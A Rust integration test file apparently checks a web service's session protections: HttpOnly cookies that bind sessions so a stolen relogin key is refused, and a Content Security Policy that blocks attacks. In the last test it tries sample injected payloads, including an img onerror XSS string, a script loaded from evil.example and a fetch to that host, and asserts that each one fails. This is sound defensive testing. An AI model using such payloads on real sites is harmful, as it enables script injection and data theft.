//! Cookies that no script reads: sessions that are bound to one; and what the page may do at all.

use anyhow::{Context, Result, ensure};
use relogin_tests::{browser::Browser, res::Res, stage::Stage};
use serde_json::{Value, json};

use crate::{JANE, RELOGIN};

on!(both:
    key_stolen_without_its_cookie,
    logins_without_a_cookie_are_refused,
    a_gateway_gives_cookies_and_takes_them,
);

on!(embedded_alone: the_page_breaks_no_rule_of_its_own);

/// What makes a browser's sessions bearer ones, so that the cookie alone stands between a stolen key and the session.
const NO_CRYPTO: &str = "Object.defineProperty(crypto, 'subtle', { value: undefined });";

async fn key_stolen_without_its_cookie(stage: &mut Stage) -> Result<()> {
    stage.up(&["--refresh", "3s"]).await?;
    let front = stage.front().await?;
    let owner = stage.browser("owner").await?;
    owner.before_each_page(NO_CRYPTO).await?;
    owner.open(&front.url()).await?;
    owner.log_in("jane", "jane").await?;
    owner.counter_runs().await?;
    owner.watch_views().await?;
    ensure!(owner.run("return document.cookie").await? == "", "script sees the cookie");

    let loot = owner.stored().await?;
    assert!(loot["bound"] != true, "{loot}");
    let mut thief = stage.res().await?;
    let refused = thief.relogin(&loot["key"], loot["attempt"].as_str()).await?;
    assert_eq!(refused.code(), Some("session.invalidReloginKey"));
    stage.service_says("the audit", "outcome=cookie_mismatch").await?;
    let (mut other, _) =
        Res::bringing(&stage.gateway_url(), &[("Cookie", "relogin-session=AAAAAAAAAAAAAAAAAAAAAA")]).await?;
    assert_eq!(other.relogin(&loot["key"], None).await?.code(), Some("session.invalidReloginKey"));

    front.payload(front.mark(), RELOGIN).await?;
    owner.is_user(JANE).await?;
    assert_eq!(owner.views_seen().await?, Vec::<String>::new());
    // A reload, and all that the browser keeps comes along.
    owner.reload().await?;
    owner.is_user(JANE).await
}

async fn logins_without_a_cookie_are_refused(stage: &mut Stage) -> Result<()> {
    stage.up(&["--cookie", "require"]).await?;
    let mut bare = stage.res().await?;
    let credentials = json!({ "username": "jane", "password": "jane" });
    let refused = bare.request("auth.session.login", Some(credentials)).await?;
    assert_eq!(refused.code(), Some("session.cookieRequired"));

    // A browser has its cookie before its first connection, with the page.
    let front = stage.front().await?;
    let page = stage.page("owner", &front.url()).await?;
    page.log_in("jane", "jane").await?;
    page.counter_runs().await
}

async fn a_gateway_gives_cookies_and_takes_them(stage: &mut Stage) -> Result<()> {
    stage.up(&["--cookie", "require"]).await?;
    let (_, given) = Res::bringing(&stage.gateway_url(), &[]).await?;
    let [cookie] = given.as_slice() else { anyhow::bail!("{given:?}") };
    assert!(cookie.starts_with("relogin-session=") && cookie.ends_with("; HttpOnly; SameSite=Strict"), "{cookie}");
    let pair = cookie.split(';').next().context("a cookie has a value")?;

    let with_it = [("Cookie", pair)];
    let (mut owner, again) = Res::bringing(&stage.gateway_url(), &with_it).await?;
    assert!(again[0].starts_with(pair), "{again:?}");
    let key = owner.log_in("jane", "jane").await?["reloginKey"].take();
    assert_eq!(stage.res().await?.relogin(&key, None).await?.code(), Some("session.invalidReloginKey"));
    let (mut next, _) = Res::bringing(&stage.gateway_url(), &with_it).await?;
    assert_eq!(next.relogin(&key, None).await?.payload()?["generation"], 2);
    Ok(())
}

/// All rules that the page's head sets are kept by the page itself, from the first load over a login to the next; and they hold.
async fn the_page_breaks_no_rule_of_its_own(stage: &mut Stage) -> Result<()> {
    const WATCH: &str = "
        window.broken = [];
        addEventListener('securitypolicyviolation', (event) => window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`));";
    stage.up(&[]).await?;
    let url = format!("http://{}/", stage.service_addr());
    let page = stage.browser("page").await?;
    page.before_each_page(WATCH).await?;
    page.open(&url).await?;
    page.log_in("jane", "jane").await?;
    page.counter_runs().await?;
    page.reload().await?;
    page.is_user(JANE).await?;
    page.counter_runs().await?;
    assert_eq!(page.run("return window.broken").await?, json!([]));
    assert_eq!(complaints(&page).await?, Vec::<String>::new());

    for (what, attempt) in [
        (
            "an inline script",
            "const it = document.createElement('script'); it.textContent = 'window.pwned = 1'; document.body.append(it)",
        ),
        ("markup", "document.body.innerHTML = '<img src=x onerror=window.pwned=1>'"),
        (
            "a stranger's script",
            "const it = document.createElement('script'); it.src = 'https://evil.example/x.js'; document.body.append(it)",
        ),
        (
            "an inline style",
            "const it = document.createElement('style'); it.textContent = 'body { opacity: 0.5 }'; document.body.append(it)",
        ),
    ] {
        const SEEN: &str = "return [window.pwned ?? null, getComputedStyle(document.body).opacity]";
        let tried = page.run(&format!("try {{ {attempt} }} catch (error) {{}} {SEEN}")).await?;
        assert_eq!(tried, json!([null, "1"]), "{what}");
    }
    const ELSEWHERE: &str = "
        return fetch('https://evil.example/').then(() => 'let out', () => 'kept in')";
    assert_eq!(page.run(ELSEWHERE).await?, "kept in");
    let broken = page.run("return window.broken").await?;
    let broken: Vec<&str> = broken.as_array().context("a list")?.iter().filter_map(Value::as_str).collect();
    assert!(broken.iter().any(|rule| rule.starts_with("connect-src https://evil.example")), "{broken:?}");
    assert!(broken.iter().any(|rule| rule.starts_with("require-trusted-types-for")), "{broken:?}");
    Ok(())
}

/// What the browser's console says of rules that were broken.
async fn complaints(page: &Browser) -> Result<Vec<String>> {
    let words = ["Content Security Policy", "Permissions policy", "Permissions-Policy", "integrity", "preload"];
    let lines = page.console().await?;
    Ok(lines.into_iter().filter(|line| words.iter().any(|word| line.contains(word))).collect())
}
